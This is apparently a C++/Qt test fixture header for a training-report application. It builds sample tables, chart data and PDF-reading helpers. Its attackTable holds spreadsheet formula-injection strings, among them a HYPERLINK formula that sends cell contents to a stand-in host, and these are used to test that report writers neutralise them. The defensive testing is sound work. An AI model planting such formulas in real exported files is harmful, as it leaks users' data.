#pragma once

// Hand-made report values for the output tests: they do not depend on the indicator engine,
// so a writer's test fails only for the writer's own faults.

#include "reports/reportwriters.h"

#include <QProcess>
#include <QRegularExpression>
#include <QStandardPaths>

namespace capacita::test {

inline reports::ReportTable sampleTable(const QString &id = QStringLiteral("by_department"))
{
    reports::ReportTable t;
    t.id = id;
    t.title = QStringLiteral("Personas capacitadas por departamento");
    t.columnIds = { QStringLiteral("key"), QStringLiteral("count"), QStringLiteral("share") };
    t.headers = { QStringLiteral("Departamento"), QStringLiteral("Personas"), QStringLiteral("Proporción") };
    t.rows = {
        { QStringLiteral("Cusco"), qint64(12), 0.5 },
        { QStringLiteral("Huánuco"), qint64(1234567), 0.125 },
        { QStringLiteral("Madre de Dios"), qint64(0), 0.0 },
        { QStringLiteral("unknown"), qint64(3), 1.0 / 3.0 },
    };
    t.note = QStringLiteral("Una persona cuenta una vez en cada departamento.");
    return t;
}

// Text a spreadsheet could run as a formula, and harmless text that must stay as it is.
inline reports::ReportTable attackTable()
{
    reports::ReportTable t;
    t.id = QStringLiteral("participants");
    t.title = QStringLiteral("Participantes [evidencia]: lista/completa*?");
    t.columnIds = { QStringLiteral("name"), QStringLiteral("value") };
    t.headers = { QStringLiteral("Nombre"), QStringLiteral("=Valor") };
    t.rows = {
        { QStringLiteral("=HYPERLINK(\"http://x.example/?\"&A1,\"clic\")"), qint64(1) },
        { QStringLiteral("+1"), qint64(2) },
        { QStringLiteral("-2+3"), qint64(-3) },
        { QStringLiteral("@SUM(A1:A9)"), 2.5 },
        { QStringLiteral("\tx"), qint64(5) },
        { QStringLiteral("\rx"), qint64(6) },
        { QStringLiteral("María Ñahui, \"La Flaca\""), qint64(7) },
        { QStringLiteral("a=b"), qint64(8) },
        { QStringLiteral("08123456"), qint64(9) },
        { QStringLiteral(" espacio"), qint64(10) },
    };
    return t;
}

inline reports::ChartData sampleChart(int series = 2)
{
    reports::ChartData c;
    c.id = QStringLiteral("pre_post_by_type");
    c.title = QStringLiteral("Pre test y post test por tipo de participante");
    c.categoryKeys = { QStringLiteral("judge"), QStringLiteral("police"), QStringLiteral("community_leader") };
    c.categories = { QStringLiteral("Jueces"), QStringLiteral("Policía Nacional"), QStringLiteral("Lideresas comunitarias") };
    for (int s = 0; s < series; ++s)
        c.series.append({ s == 0 ? QStringLiteral("Pre test") : QStringLiteral("Post test"), { 40.0 + s * 25, 55.5 + s * 20, 0 } });
    c.valueSuffix = QStringLiteral("%");
    return c;
}

// Number of page objects, from the PDF's own dictionaries.
inline int pdfPageCount(const QByteArray &pdf)
{
    static const QRegularExpression page(QStringLiteral("/Type\\s*/Page(?![a-zA-Z])"));
    return int(QString::fromLatin1(pdf).count(page));
}

// The text of a PDF through pdftotext (poppler-utils, listed in tools/packages.txt).
inline QString pdfText(const QString &path)
{
    const QString tool = QStandardPaths::findExecutable(QStringLiteral("pdftotext"));
    REQUIRE_FALSE(tool.isEmpty());
    QProcess process;
    process.start(tool, { QStringLiteral("-layout"), QStringLiteral("-enc"), QStringLiteral("UTF-8"), path,
                            QStringLiteral("-") });
    REQUIRE(process.waitForFinished(60'000));
    REQUIRE(process.exitCode() == 0);
    return QString::fromUtf8(process.readAllStandardOutput());
}

} // namespace capacita::test
